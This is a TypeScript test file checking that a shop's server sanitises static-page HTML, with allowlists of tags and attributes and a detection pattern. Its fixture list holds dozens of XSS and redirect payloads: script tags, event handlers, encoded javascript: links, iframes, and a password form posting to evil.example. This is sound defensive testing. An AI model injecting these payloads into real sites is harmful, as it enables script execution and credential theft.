import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, json, type TestApp } from '../../../test/helpers.ts';
import { INDEX_HTML } from '../../../test/index-html.ts';
import { person } from '../../../test/offer-helpers.ts';
import { demoStaticPages } from '../../db/seed/static-pages.ts';
import { auditLog } from '../audit/tables.ts';
import { listLanguages } from '../i18n/index.ts';
import { cleanPageHtml } from './page-html.ts';
import { staticPages, staticPageTranslations } from './tables.ts';

let t: TestApp;
let dist: string;
beforeAll(async () => {
  // The built web app, so a page's path answers the shop's document (its description comes from the page).
  dist = mkdtempSync(join(tmpdir(), 'page-html-'));
  writeFileSync(join(dist, 'index.html'), INDEX_HTML);
  t = await createTestApp({ WEB_DIST_DIR: dist, PUBLIC_URL: 'https://shop.example' });
});
afterAll(async () => {
  await t?.close();
  rmSync(dist, { recursive: true, force: true });
});

type Headers = Record<string, string>;
type ShopPage = { id: number; slug: string; title: string; content: string };
const langId = async (code: string) => (await listLanguages(t.db)).find((l) => l.code === code)!.id;
const servedById = async (id: number, query = '') => (json(await t.app.inject(`/api/static-pages/${id}${query}`)).payload as ShopPage).content;
const servedInList = async (id: number, query = '') => (json(await t.app.inject(`/api/static-pages${query}`)).payload as ShopPage[]).find((p) => p.id === id)?.content;
const edit = (headers: Headers, id: number, lang: string, content: string) =>
  t.app.inject({ method: 'PUT', url: `/api/operator/static-pages/${id}/${lang}`, headers, payload: { title: 'Vector', content } });
const storedContent = async (id: number) => (await t.db.select({ content: staticPages.content }).from(staticPages).where(eq(staticPages.id, id)))[0]?.content;

let n = 0;
async function newPage(headers: Headers, body: object = {}): Promise<number> {
  const res = await t.app.inject({ method: 'POST', url: '/api/operator/static-pages', headers, payload: { slug: `sec-page-${++n}`, title: 'Vector', content: '<p>x</p>', ...body } });
  expect(res.statusCode, res.body).toBe(200);
  return json(res).payload.id as number;
}

const KEPT_TAGS = new Set(['h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr', 'strong', 'b', 'em', 'i', 'u', 's', 'blockquote', 'code', 'pre', 'ul', 'ol', 'li', 'a', 'img', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'caption', 'span', 'div']);
const KEPT_ATTRIBUTES: Record<string, (value: string) => boolean> = {
  href: (v) => /^(https?:\/\/[^/\\]|mailto:|\/[^/\\]|#)/.test(v),
  src: (v) => /^\/img\/[^/]/.test(v) && !v.includes('..'),
  target: (v) => v === '_blank',
  rel: (v) => v === 'noopener noreferrer',
  alt: () => true,
  width: (v) => /^\d+$/.test(v),
  height: (v) => /^\d+$/.test(v),
  colspan: (v) => /^\d+$/.test(v),
  rowspan: (v) => /^\d+$/.test(v),
};

/**
 * What a browser could make of the served HTML: every tag is of the allowlist with allowed
 * attributes only, and no other `<` is left (text that looks like markup is escaped).
 */
function expectInert(html: string, label: string): void {
  const tag = /<\/?([a-z0-9]+)((?:\s+[a-z-]+="[^"]*")*)\s*\/?>/g;
  for (const [, name, attributes] of html.matchAll(tag)) {
    expect(KEPT_TAGS.has(name!), `${label}: <${name}>`).toBe(true);
    for (const [, attr, value] of (attributes ?? '').matchAll(/\s+([a-z-]+)="([^"]*)"/g)) {
      const allowed = KEPT_ATTRIBUTES[attr!];
      expect(allowed !== undefined && allowed(value!.replace(/&amp;/g, '&')), `${label}: ${attr}="${value}"`).toBe(true);
    }
  }
  expect(html.replace(tag, ''), `${label}: markup left outside the allowlist`).not.toContain('<');
  expect(html, label).not.toMatch(/javascript:|vbscript:|data:|srcdoc|expression\(|http-equiv|on[a-z]+=/i);
}

/** The OWASP XSS filter evasion cheat sheet's kinds of vector (and redirects), each with what the shop serves of it. */
const VECTORS: [label: string, html: string, served: string][] = [
  ['script element', '<script>alert(1)</script>', ''],
  ['script from another host, upper case', '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>', ''],
  ['img onerror', '<img src=x onerror=alert(1)>', ''],
  ['onerror on a picture of the shop', '<img src="/img/a.png" onerror="alert(1)">', '<img src="/img/a.png" />'],
  ['svg onload', '<svg onload=alert(1)>', ''],
  ['script inside svg', '<svg><script>alert(1)</script></svg>', ''],
  ['javascript: href', '<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
  ['JaVaScRiPt: href', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a>x</a>'],
  ['decimal entity href', '<a href="&#106;avascript:alert(1)">x</a>', '<a>x</a>'],
  ['hex entity href', '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>', '<a>x</a>'],
  ['embedded tab', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a>x</a>'],
  ['leading space', '<a href=" javascript:alert(1)">x</a>', '<a>x</a>'],
  ['data: href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a>x</a>'],
  ['vbscript: href', '<a href="vbscript:msgbox(1)">x</a>', '<a>x</a>'],
  ['meta refresh to another origin', '<meta http-equiv="refresh" content="0;url=https://evil.example">', ''],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
  ['iframe of another host', '<iframe src="https://evil.example"></iframe>', ''],
  ['form with a password field posting elsewhere', '<form action="https://evil.example"><input type="password" name="p"><button>Sign in</button></form>', ''],
  ['base href', '<base href="https://evil.example/">', ''],
  ['stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css">', ''],
  ['object', '<object data="https://evil.example/x.swf"></object>', ''],
  ['embed', '<embed src="https://evil.example/x.swf">', ''],
  ['protocol-relative href', '<a href="//evil.example">x</a>', '<a>x</a>'],
  ['backslash href', '<a href="/\\evil.example">x</a>', '<a>x</a>'],
  ['two backslashes', '<a href="\\\\evil.example">x</a>', '<a>x</a>'],
  ['tab between slashes', '<a href="/\t/evil.example">x</a>', '<a>x</a>'],
  ['style expression', '<p style="width: expression(alert(1))">x</p>', '<p>x</p>'],
  ['style url', '<div style="background:url(javascript:alert(1))">x</div>', '<div>x</div>'],
  ['style element', '<style>body{display:none}</style>', ''],
  ['picture of another host', '<img src="https://evil.example/x.png">', ''],
  ['protocol-relative picture', '<img src="//evil.example/x.png">', ''],
  ['picture path out of /img/', '<img src="/img/../api/x.png">', ''],
  ['math', '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>', ''],
  ['split script tag', '<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
  ['doubled brackets', '<<script>script>alert(1)<</script>/script>', '&lt;/script&gt;'],
  ['quotes breaking the tag', '<img """><script>alert(1)</script>">', '"&gt;'],
  ['script in a comment', '<!--<script>alert(1)</script>-->', ''],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>', ''],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ''],
  ['textarea', '<textarea><script>alert(1)</script></textarea>', ''],
  ['details ontoggle', '<details open ontoggle=alert(1)>', ''],
  ['video source onerror', '<video><source onerror="alert(1)"></video>', ''],
  ['handlers, class and id', '<p onclick="alert(1)" class="fixed inset-0" id="x">t</p>', '<p>t</p>'],
  ['target other than _blank', '<a href="https://shop.example" target="_top" onmouseover="x()">x</a>', '<a href="https://shop.example" rel="noopener noreferrer">x</a>'],
];

/** What an operator writes: headings, paragraphs, lists, links (http, https, mailto, the shop's own), a picture of the shop, a table. */
const ALLOWED_PAGE = [
  '<h1>Shipping</h1><h2>How</h2><h3>When</h3><h4>a</h4><h5>b</h5><h6>c</h6>',
  '<p>Sent by a <strong>Steam</strong> trade <b>offer</b>, <em>at once</em>, <i>really</i>, <u>always</u>, <s>never</s>.<br />Next line.</p><hr />',
  '<blockquote>Quote</blockquote><pre><code>code</code></pre>',
  '<ul><li>One</li><li>Two</li></ul><ol><li>First</li></ol>',
  '<p><a href="https://steamcommunity.com/" target="_blank" rel="noopener noreferrer">Steam</a>, <a href="http://example.com/a?b=1&amp;c=2" rel="noopener noreferrer">plain</a>, <a href="mailto:support@skins-market.example" rel="noopener noreferrer">mail</a>, <a href="/privacy-policy" rel="noopener noreferrer">privacy</a>, <a href="#top" rel="noopener noreferrer">top</a></p>',
  '<p><img src="/img/social/discord.svg" alt="Discord" width="24" height="24" /></p>',
  '<table><caption>Fees</caption><thead><tr><th>Method</th><th colspan="2">Fee</th></tr></thead><tbody><tr><td>Card</td><td>2</td><td>%</td></tr></tbody></table>',
  '<div><span>box</span></div>',
].join('\n');

describe('static page HTML cleaned on the server', () => {
  it('SEC-16: each known XSS or redirect vector saved by the operator (PUT) is stored and served (by id, in the list) without anything that runs, loads or posts', async () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(25);
    const op = await person(t.db, 'operator');
    const id = await newPage(op.headers);
    for (const [label, html, served] of VECTORS) {
      const res = await edit(op.headers, id, 'en', `<p>${label}</p>${html}`);
      expect(res.statusCode, `${label}: ${res.body}`).toBe(200);
      const expected = `<p>${label}</p>${served}`;
      expect(json(res).payload.texts.en.content, label).toBe(expected);
      expect(await storedContent(id), label).toBe(expected);
      expect(await servedById(id), label).toBe(expected);
      expect(await servedInList(id), label).toBe(expected);
      expectInert(served, label);
    }
    // The audit keeps what was stored, not what was typed.
    const [last] = await t.db.select().from(auditLog).where(and(eq(auditLog.action, 'static_page.edit'), eq(auditLog.targetId, `${id}:en`))).orderBy(auditLog.id).limit(1);
    expect(last?.after).toEqual({ title: 'Vector', content: `<p>${VECTORS[0]![0]}</p>` });
  });

  it('SEC-16: a new page (POST) with vectors in its English, German and Polish texts is stored and served clean in each language', async () => {
    const op = await person(t.db, 'operator');
    const all = VECTORS.map(([, html]) => html).join('');
    const id = await newPage(op.headers, { content: `<p>en</p>${all}`, de: { title: 'Vektor', content: `<p>de</p>${all}` }, pl: { title: 'Wektor', content: `<p>pl</p>${all}` } });
    const expected = (lang: string) => cleanPageHtml(`<p>${lang}</p>${all}`);
    expect(await storedContent(id)).toBe(expected('en'));
    const translations = await t.db.select().from(staticPageTranslations).where(eq(staticPageTranslations.pageId, id)).orderBy(staticPageTranslations.lang);
    expect(translations.map((r) => r.content)).toEqual([expected('de'), expected('pl')]);
    for (const lang of ['en', 'de', 'pl']) {
      const query = lang === 'en' ? '' : `?lang_id=${await langId(lang)}`;
      expect(await servedById(id, query), lang).toBe(expected(lang));
      expect(await servedInList(id, query), lang).toBe(expected(lang));
      expectInert(expected(lang), lang);
    }
  });

  it('SEC-16: an allowed page (headings, text, lists, http, https, mailto and own links, an /img/ picture, a table) survives intact, and cleaning it again changes nothing', async () => {
    const op = await person(t.db, 'operator');
    const id = await newPage(op.headers, { content: ALLOWED_PAGE });
    expect(await storedContent(id)).toBe(ALLOWED_PAGE);
    expect(await servedById(id)).toBe(ALLOWED_PAGE);
    const res = await edit(op.headers, id, 'de', ALLOWED_PAGE);
    expect(json(res).payload.texts.de.content).toBe(ALLOWED_PAGE);
    expect(await servedById(id, `?lang_id=${await langId('de')}`)).toBe(ALLOWED_PAGE);
    expectInert(ALLOWED_PAGE, 'allowed page');
    for (const [label, html] of VECTORS) expect(cleanPageHtml(cleanPageHtml(html)), label).toBe(cleanPageHtml(html));
  });

  it('SEC-16: a link gets rel="noopener noreferrer" and keeps target only when it is _blank; a picture keeps only whole-number sizes', async () => {
    const op = await person(t.db, 'operator');
    const id = await newPage(op.headers, {
      content: '<a href="https://a.example" rel="opener" target="_BLANK">a</a><a href="mailto:x@y.example" target="_self">b</a><img src="/img/a.png" alt="A" width="100%" height="20" srcset="https://evil.example/x.png 2x">',
    });
    expect(await servedById(id)).toBe(
      '<a href="https://a.example" target="_blank" rel="noopener noreferrer">a</a><a href="mailto:x@y.example" rel="noopener noreferrer">b</a><img src="/img/a.png" alt="A" height="20" />',
    );
  });

  it('SEC-16: a row written straight to the database with a script (as before this rule) is served clean: by id, in the list, in German, to the operator and in the document head', async () => {
    const op = await person(t.db, 'operator');
    const dirty = '<p>Old page</p><script>alert("old")</script><img src=x onerror=alert(1)><meta http-equiv="refresh" content="0;url=https://evil.example">';
    const [row] = await t.db.insert(staticPages).values({ slug: 'legacy-page', title: 'Legacy', content: dirty, position: 999 }).returning({ id: staticPages.id });
    const id = row!.id;
    await t.db.insert(staticPageTranslations).values({ pageId: id, lang: 'de', title: 'Alt', content: '<p>Alte Seite</p><iframe srcdoc="<script>alert(1)</script>"></iframe>' });

    expect(await servedById(id)).toBe('<p>Old page</p>');
    expect(await servedInList(id)).toBe('<p>Old page</p>');
    expect(await servedById(id, `?lang_id=${await langId('de')}`)).toBe('<p>Alte Seite</p>');
    const operatorView = json(await t.app.inject({ url: '/api/operator/static-pages', headers: op.headers })).payload.find((p: { id: number }) => p.id === id);
    expect(operatorView.texts).toEqual({ en: { title: 'Legacy', content: '<p>Old page</p>' }, de: { title: 'Alt', content: '<p>Alte Seite</p>' }, pl: null });
    const document = (await t.app.inject('/legacy-page')).body;
    expect(document).toContain('<meta name="description" content="Old page" />');
    expect(document).not.toContain('alert');
    // The row itself is left as it was until the operator saves the page.
    expect(await storedContent(id)).toBe(dirty);
  });

  it("SEC-16: the seed's pages are stored clean, their text as written", async () => {
    const rows = await t.db.select({ slug: staticPages.slug, content: staticPages.content }).from(staticPages);
    for (const page of demoStaticPages) {
      const stored = rows.find((r) => r.slug === page.slug)?.content;
      expect(stored, page.slug).toBe(cleanPageHtml(page.content));
      // Only the links gained their rel.
      expect(stored?.replace(/ rel="noopener noreferrer"/g, ''), page.slug).toBe(page.content);
    }
  });
});
